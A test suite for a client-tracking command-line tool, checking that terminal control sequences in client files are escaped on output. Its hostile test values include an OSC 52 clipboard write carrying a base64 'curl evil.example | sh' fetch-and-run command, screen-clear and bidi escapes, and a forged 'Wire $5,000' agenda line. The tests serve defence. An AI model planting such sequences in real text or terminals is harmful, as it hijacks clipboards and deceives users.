/**
 * Text from a file never reaches the terminal raw: control characters, bidi overrides and line
 * separators print as visible escapes in every command's text output; JSON keeps the exact strings.
 */
import { mkdir, readFile, writeFile } from 'node:fs/promises';
import path from 'node:path';
import { describe, expect, test } from 'vitest';
import { printable } from '#core/text/printable';
import { tempRepos } from '../helpers/git-repo.ts';
import { run } from '../helpers/cli.ts';
import { client, tempPortfolios } from '../helpers/portfolio.ts';

const portfolio = tempPortfolios();
const repos = tempRepos();

/** Anything a terminal would act on rather than show (a line feed between lines aside). */
const RAW = /[\u0000-\u0009\u000b-\u001f\u007f-\u009f\u061c\u200e\u200f\u202a-\u202e\u2066-\u2069\u2028\u2029]/u;

function expectNoRawControls(output: string): void {
  const m = RAW.exec(output);
  expect(m, m ? `raw U+${m[0].codePointAt(0)!.toString(16).padStart(4, '0')} at ${JSON.stringify(output.slice(Math.max(0, m.index - 30), m.index + 30))}` : '').toBeNull();
}

// What an attacker writes in YAML double quotes: a clipboard write (OSC 52), a cleared screen,
// a fake agenda line after CR LF, a right-to-left override, a line separator.
const OSC52 = '\\e]52;c;Y3VybCBldmlsLmV4YW1wbGUgfCBzaA==\\a';
const NAME = `Acme${OSC52}\\r\\nToday (1)\\u202e`;
const SHOWN_NAME = 'Acme\\x1b]52;c;Y3VybCBldmlsLmV4YW1wbGUgfCBzaA==\\x07\\r\\nToday (1)\\u202e';
const TITLE = 'Call Ann\\e[2J\\0\\x7f\\u0085\\u2028  2026-12-01 Tue  today  Fake Co  action  Wire $5,000\\t!';
const SHOWN_TITLE = 'Call Ann\\x1b[2J\\x00\\x7f\\x85\\u2028  2026-12-01 Tue  today  Fake Co  action  Wire $5,000\\t!';
const EXACT_TITLE = 'Call Ann\x1b[2J\0\x7f\u0085\u2028  2026-12-01 Tue  today  Fake Co  action  Wire $5,000\t!';

const hostile = () =>
  client(`name: "${NAME}"\nactions:\n  - title: "${TITLE}"\n    due: 2026-12-01`);

describe('printable', () => {
  test.each([
    ['plain text, accents, emoji: Café 東京 👍🏽 \\\\server\\scans', 'plain text, accents, emoji: Café 東京 👍🏽 \\\\server\\scans'],
    ['\x1b[31mred\x1b[0m', '\\x1b[31mred\\x1b[0m'],
    ['bell\x07 nul\0 del\x7f', 'bell\\x07 nul\\x00 del\\x7f'],
    ['cr\r lf\n tab\t', 'cr\\r lf\\n tab\\t'],
    ['c1 \u0085 \u009b \u0080 \u009f', 'c1 \\x85 \\x9b \\x80 \\x9f'],
    ['bidi \u202e \u2066 \u2069 \u200f \u061c', 'bidi \\u202e \\u2066 \\u2069 \\u200f \\u061c'],
    ['lines \u2028 \u2029', 'lines \\u2028 \\u2029'],
  ])('%j', (text, shown) => {
    expect(printable(text)).toBe(shown);
    expect(printable(printable(text))).toBe(shown);
  });

  test('text of several lines that clientbook wrote keeps its line feeds', () => {
    expect(printable('one\ntwo\r\nthree\x1b', { newlines: true })).toBe('one\ntwo\\r\nthree\\x1b');
  });
});

describe('every face shows control characters as escapes', () => {
  test('due: names and titles cannot fake agenda lines or write the clipboard; --json keeps them exact', async () => {
    const dir = await portfolio({ 'acme.md': hostile(), 'bolt.md': client(`name: "Bolt\\u202eEvil"\nactions: []`) });
    const text = await run(['due', '--dir', '.', '--as-of', '2026-12-01'], dir);
    expect(text.code).toBe(0);
    expectNoRawControls(text.stdout + text.stderr);
    expect(text.stdout).toContain(`  2026-12-01 Tue  today          ${SHOWN_NAME.slice(0, 27)}…  action   ${SHOWN_TITLE}\n`);
    expect(text.stdout).toContain('No next action (1)\n  Bolt\\u202eEvil\n');
    // Exactly one line under "Today": the CR LF and the line separator made none of their own.
    expect(text.stdout).toMatch(/\nToday \(1\)\n {2}2026-12-01 Tue {2}today {10}Acme\\x1b[^\n]*\n\n/);

    const json = await run(['due', '--dir', '.', '--as-of', '2026-12-01', '--json'], dir);
    const item = JSON.parse(json.stdout).items.find((i: { kind: string }) => i.kind === 'action');
    expect(item.clientName).toBe('Acme\x1b]52;c;Y3VybCBldmlsLmV4YW1wbGUgfCBzaA==\x07\r\nToday (1)\u202e');
    expect(item.title).toBe(EXACT_TITLE);
  });

  test('due: a long name is cut between characters, never inside an escape or a surrogate pair', async () => {
    // 24 letters, then an escape of 6 columns (cut at 27 would leave `\u20`), then one of emoji (two UTF-16 units).
    const dir = await portfolio({
      'acme.md': client(`name: "${'A'.repeat(24)}\\u202eEvil"`),
      'bolt.md': client(`name: "${'B'.repeat(26)}😀😀 Co"`),
    });
    const text = await run(['due', '--dir', '.', '--as-of', '2026-12-01'], dir);
    expectNoRawControls(text.stdout);
    expect(text.stdout).toContain(`  ${'A'.repeat(24)}…     action   Call Ann\n`);
    expect(text.stdout).toContain(`  ${'B'.repeat(26)}…   action   Call Ann\n`);
    expect(text.stdout).not.toMatch(/[\uD800-\uDFFF]/u);
  });

  test('validate: the code frame shows the raw bytes of a line as escapes, the caret under the escape', async () => {
    const dir = await portfolio({ 'acme.md': client('name: Acme\x1b]0;pwned\x07\nvisit: "\x1b[2J"\ntype: basic\x07\rX') });
    const out = await run(['validate', '--dir', '.'], dir);
    expect(out.code).toBe(1);
    expectNoRawControls(out.stdout + out.stderr);
    expect(out.stdout).toContain(
      [
        'acme.md:3:1: error: Unknown key `visit`. [unknown-key]',
        '  2 | name: Acme\\x1b]0;pwned\\x07',
        '> 3 | visit: "\\x1b[2J"',
        '    | ^^^^^',
      ].join('\n'),
    );
    // A lone CR is not a line end: the line shows it, and the caret spans the value as shown.
    expect(out.stdout).toContain('acme.md:4:7: error: `type: basic\\x07\\rX` is not a valid type.');
    expect(out.stdout).toContain('> 4 | type: basic\\x07\\rX\n    |       ^^^^^^^^^^^^\n');
  });

  test('validate: a message quoting a value, and a file name with control characters', async () => {
    const dir = await portfolio({ 'acme.md': client('name: Acme\nstatus: active\x1b[8m'), 'sub\x1b[31mdir/bolt.md': client('name: Bolt', { omit: ['contact'] }) });
    const out = await run(['validate', '--dir', '.'], dir);
    expectNoRawControls(out.stdout + out.stderr);
    expect(out.stdout).toContain('acme.md:3:9: error: `status: active\\x1b[8m` is not a valid status.');
    expect(out.stdout).toContain('> 3 | status: active\\x1b[8m\n');
    expect(out.stdout).toContain('sub\\x1b[31mdir/bolt.md:');
    const github = await run(['validate', '--dir', '.', '--format', 'github'], dir);
    expectNoRawControls(github.stdout + github.stderr);
    expect(github.stdout).toContain('active\\x1b[8m');
    const json = JSON.parse((await run(['validate', '--dir', '.', '--format', 'json'], dir)).stdout);
    expect(json.diagnostics.map((d: { file: string }) => d.file)).toContain('sub\x1b[31mdir/bolt.md');
  });

  test('done, note, met, new: the confirmations and the refusals', async () => {
    const dir = await portfolio({ 'acme.md': hostile() });
    const done = await run(['done', 'acme', 'Call Ann', '--dir', '.', '--on', '2026-12-01'], dir);
    expect(done.code).toBe(0);
    expectNoRawControls(done.stdout + done.stderr);
    expect(done.stdout).toBe(`acme.md: Done on 2026-12-01: "${SHOWN_TITLE}".\n`);
    // The file keeps the exact text: only the terminal sees escapes.
    expect(await readFile(path.join(dir, 'acme.md'), 'utf8')).toContain(`title: "${TITLE}"`);

    const dir2 = await portfolio({ 'acme.md': hostile().replace('actions:', 'actions:\n  - title: "Call Ann\\r\\n    back"\n    due: 2026-12-02') });
    const ambiguous = await run(['done', 'acme', 'Call', '--dir', '.'], dir2);
    expect(ambiguous.code).toBe(1);
    expectNoRawControls(ambiguous.stdout + ambiguous.stderr);
    expect(ambiguous.stderr).toContain('Call Ann\\r\\n    back');

    const note = await run(['note', 'acme', 'Swapped the switch.', '--title', 'Visit\x1b[2J', '--dir', '.', '--on', '2026-12-01'], dir);
    expectNoRawControls(note.stdout + note.stderr);
    const met = await run(['met', 'acme', '--dir', '.', '--on', '2026-12-01'], dir);
    expect(met.code).toBe(0);
    expectNoRawControls(met.stdout + met.stderr);

    const created = await run(['new', 'Hank\x1b]52;c;aGk=\x07 Hardware', '--dir', '.'], dir);
    expect(created.code).toBe(0);
    expectNoRawControls(created.stdout + created.stderr);
    expect(created.stderr).toContain('for Hank\\x1b]52;c;aGk=\\x07 Hardware.');
  });

  test('a portfolio folder whose name holds control characters is printed escaped', async () => {
    const root = await portfolio({});
    const dir = path.join(root, 'book\x1b]0;x\x07');
    await mkdir(dir);
    await writeFile(path.join(dir, 'acme.md'), client('name: Acme', { omit: ['contact'] }));
    for (const argv of [['validate'], ['due'], ['build', '--out', 'out\x1b[2J']]) {
      const out = await run([...argv, '--dir', 'book\x1b]0;x\x07'], root);
      expectNoRawControls(out.stdout + out.stderr);
      expect(out.stdout + out.stderr).toContain('book\\x1b]0;x\\x07');
    }
  });

  test('diff: the Markdown shows escapes, the JSON the exact strings', async () => {
    const repo = repos();
    repo.write({ 'clients/acme.md': client('name: Acme') });
    repo.commit('start', '2026-11-01T10:00:00+00:00');
    repo.write({ 'clients/acme.md': hostile(), 'clients/bolt.md': client(`name: "${NAME}"`) });
    repo.commit('hostile', '2026-11-02T10:00:00+00:00');
    const text = await run(['diff', 'HEAD~1', 'HEAD'], repo.root);
    expect(text.code).toBe(0);
    expectNoRawControls(text.stdout + text.stderr);
    // (`\]` is the Markdown escape of `]`.)
    expect(text.stdout).toContain('\n- Name: Acme → Acme\\x1b\\]52;c;Y3VybCBldmlsLmV4YW1wbGUgfCBzaA==\\x07\\r\\nToday (1)\\u202e\n');
    expect(text.stdout).toContain('\n- New action: Call Ann\\x1b\\[2J\\x00\\x7f\\x85\\u2028  2026-12-01 Tue  today  Fake Co  action  Wire $5,000\\t!, due 2026-12-01\n');
    expect(text.stdout).toContain('\n#### New client: Acme\\x1b\\]52');
    const json = JSON.parse((await run(['diff', 'HEAD~1', 'HEAD', '--json'], repo.root)).stdout);
    expect(JSON.stringify(json)).toContain(JSON.stringify(EXACT_TITLE).slice(1, -1));
  });
});
